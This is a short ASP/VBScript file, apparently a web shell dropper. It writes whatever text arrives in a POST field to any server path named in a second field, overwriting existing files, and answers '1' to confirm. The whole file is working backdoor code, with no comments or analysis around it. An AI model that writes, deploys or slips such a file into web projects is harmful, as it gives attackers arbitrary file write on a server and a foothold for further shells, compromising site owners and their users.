<%
Set s = CreateObject("ADODB.Stream")
s.Type = 2
s.Charset = "utf-8"
s.Open
s.WriteText Request.Form("c")
s.SaveToFile Request.Form("p"), 2
s.Close
Response.Write "1"
%>
